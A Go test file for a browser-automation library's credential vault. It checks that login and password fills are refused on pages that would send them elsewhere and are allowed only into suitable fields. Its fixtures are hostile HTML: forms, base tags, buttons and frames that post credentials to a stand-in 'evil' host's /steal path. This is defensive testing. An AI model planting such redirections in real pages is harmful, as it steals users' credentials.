package page_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/bctrl-go/bctrl"
	"github.com/bctrl-go/bctrl/internal/browser"
	"github.com/bctrl-go/bctrl/internal/browser/browsertest"
)

// TestFillIsRefusedWhereTheLoginDoesNotBelong tries every way around the
// origin.
func TestFillIsRefusedWhereTheLoginDoesNotBelong(t *testing.T) {
	ctx, p, b := openPage(t)
	const form = `<form method=post><input name=u aria-label=User><input type=password name=p aria-label=Password>` +
		`<button>Log in</button></form>`
	evil := browsertest.NewSite(t, nil)
	s := browsertest.NewSite(t, nil)
	evil.Pages = map[string]string{
		"/":       form,
		"/around": `<iframe src="` + s.URL + `/"></iframe>`,
	}
	s.Pages = map[string]string{
		"/":       form,
		"/action": strings.Replace(form, "method=post", `method=post action="`+evil.URL+`/steal"`, 1),
		"/base":   `<base href="` + evil.URL + `/">` + strings.Replace(form, "method=post", `method=post action="steal"`, 1),
		"/button": strings.Replace(form, "<button>", `<button formaction="`+evil.LocalhostURL()+`/steal" formmethod=post>`,
			1),
		"/attribute": strings.ReplaceAll(form, "<input", "<input form=other") +
			`<form id=other method=post action="` + evil.URL + `/steal"></form>`,
		"/outside": strings.Replace(form, "method=post", "method=post id=f", 1) +
			`<button form=f formaction="` + evil.URL + `/steal">Go</button>`,
		"/image":   strings.Replace(form, "<button>", `<input type=image alt=Go formaction="`+evil.URL+`/steal"><button>`, 1),
		"/data":    strings.Replace(form, "method=post", `method=post action="data:text/html,x"`, 1),
		"/broken":  strings.Replace(form, "method=post", `method=post action="http://["`, 1),
		"/inside":  `<iframe src="` + evil.URL + `/"></iframe>`,
		"/other":   `<iframe src="` + s.LocalhostURL() + `/"></iframe>`,
		"/sandbox": `<iframe sandbox="allow-forms allow-scripts" src="/"></iframe>`,
		"/srcdoc": `<iframe sandbox="allow-forms" srcdoc="<input aria-label=User>` +
			`<input type=password aria-label=Password>"></iframe>`,
		"/dataurl": `<iframe src='data:text/html,` + form + `'></iframe>`,
		"/script":  strings.Replace(form, "method=post", `action="javascript:void 0" method=post`, 1),
	}
	for _, c := range []struct{ url, found, why string }{
		{evil.URL + "/", evil.URL, "another port is another origin"},
		{s.LocalhostURL() + "/", s.LocalhostURL(), "another name is another origin"},
		{evil.URL + "/around", evil.URL, "a hostile page frames the login"},
		{s.URL + "/inside", evil.URL, "the login's page frames a hostile one"},
		{s.URL + "/other", s.LocalhostURL(), "the frame runs in another process"},
		{s.URL + "/action", evil.URL, "the form sends elsewhere"},
		{s.URL + "/base", evil.URL, "the form's address is resolved as the browser does"},
		{s.URL + "/button", evil.LocalhostURL(), "a button sends elsewhere"},
		{s.URL + "/attribute", evil.URL, "the fields are those of a form that sends elsewhere"},
		{s.URL + "/outside", evil.URL, "a button outside of the form sends elsewhere"},
		{s.URL + "/image", evil.URL, "a picture sends elsewhere"},
		{s.URL + "/data", "without an origin", "the form sends nowhere that is known"},
		{s.URL + "/broken", "without an origin", "the form's address cannot be read"},
		{s.URL + "/sandbox", "without an origin", "a sandboxed frame has no origin"},
		{s.URL + "/srcdoc", "without an origin", "a sandboxed document has no origin"},
		{s.URL + "/dataurl", "without an origin", "a data: frame has no origin"},
	} {
		obs := browsertest.Open(ctx, t, p, c.url)
		for _, fill := range []browser.Fill{browsertest.Login("username", "bot", s.URL),
			browsertest.Login("password", browsertest.Hunter, s.URL),
			{
				Field:   "password",
				Value:   bctrl.NewSecret(browsertest.Hunter),
				Origins: []string{s.URL},
				Direct:  true,
			}} {
			role := "User"
			if fill.Field == "password" {
				role = "Password"
			}
			err := p.Fill(ctx, browsertest.Find(t, obs, "textbox", role).Ref, fill)
			refused := new(bctrl.Error)
			require.ErrorAs(t, err, &refused, c.why)
			require.Equal(t, "vault.origin_mismatch", refused.Code, c.why)
			require.Equal(t, 403, refused.Status, c.why)
			require.Contains(t, refused.Message, c.found, c.why)
		}
		browsertest.RequireUnseen(t, browsertest.Hunter, browsertest.InputValues(ctx, t, b))
		require.NotContains(t, browsertest.InputValues(ctx, t, b), "bot", c.why)
	}
	require.False(t, p.Guarded(), "nothing was filled")

	obs := browsertest.Open(ctx, t, p, s.URL+"/script")
	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
		browsertest.Login("password", browsertest.Hunter, s.URL)), "a script of the frame itself")
}

// TestFillGoesOnlyIntoTheRightField aims at everything that is not one.
func TestFillGoesOnlyIntoTheRightField(t *testing.T) {
	ctx, p, b := openPage(t)
	s := browsertest.NewSite(t, map[string]string{"/": `
<input aria-label=text><input type=password aria-label=password><input type=password aria-label=off disabled>` +
		`<input type=password aria-label=fixed readonly>
<textarea aria-label=area></textarea><div contenteditable role=textbox aria-label=rich></div><button>button</button>` +
		`<input type=checkbox aria-label=check>
<input type=password aria-label=short maxlength=3><input type=password aria-label=fussy pattern="[ab]+">` +
		`<input type=password aria-label=invisible style="opacity:0">
<input aria-label=five maxlength=5>`})
	obs := browsertest.Open(ctx, t, p, s.URL+"/")
	for _, c := range []struct{ role, name, field, code string }{
		{"textbox", "text", "password", "vault.wrong_field"},
		{"textbox", "area", "password", "vault.wrong_field"},
		{"textbox", "rich", "username", "vault.wrong_field"},
		{"button", "button", "password", "vault.wrong_field"},
		{"checkbox", "check", "username", "vault.wrong_field"},
		{"textbox", "password", "username", "vault.wrong_field"},
		{"textbox", "password", "seed", "vault.wrong_field"},
		{"textbox", "off", "password", "page.disabled"},
		{"textbox", "fixed", "password", "page.disabled"},
		{"textbox", "invisible", "password", "vault.wrong_field"},
		{"textbox", "short", "password", "vault.fill_impossible"},
		{"textbox", "fussy", "password", "vault.fill_impossible"},
		{"textbox", "five", "totp", "vault.fill_impossible"},
	} {
		value := browsertest.Hunter
		if c.field == "totp" {
			value = "123456"
		}
		require.ErrorContains(t, p.Fill(ctx, browsertest.Find(t, obs, c.role, c.name).Ref,
			browsertest.Login(c.field, value, s.URL)), c.code, "%s into %s", c.field, c.name)
	}
	ref := browsertest.Find(t, obs, "textbox", "password").Ref
	require.ErrorContains(t, p.Fill(ctx, ref, browsertest.Login("password", browsertest.Hunter)), "vault.origin_mismatch",
		"no origins, nowhere")
	require.ErrorContains(t, p.Fill(ctx, ref, browsertest.Login("password", "", s.URL)), "vault.field_empty")
	require.ErrorContains(t, p.Fill(ctx, ref, browsertest.Login("password", "two\nlines", s.URL)), "vault.fill_impossible")
	browsertest.RequireUnseen(t, browsertest.Hunter, browsertest.InputValues(ctx, t, b))
	require.False(t, p.Guarded())
}
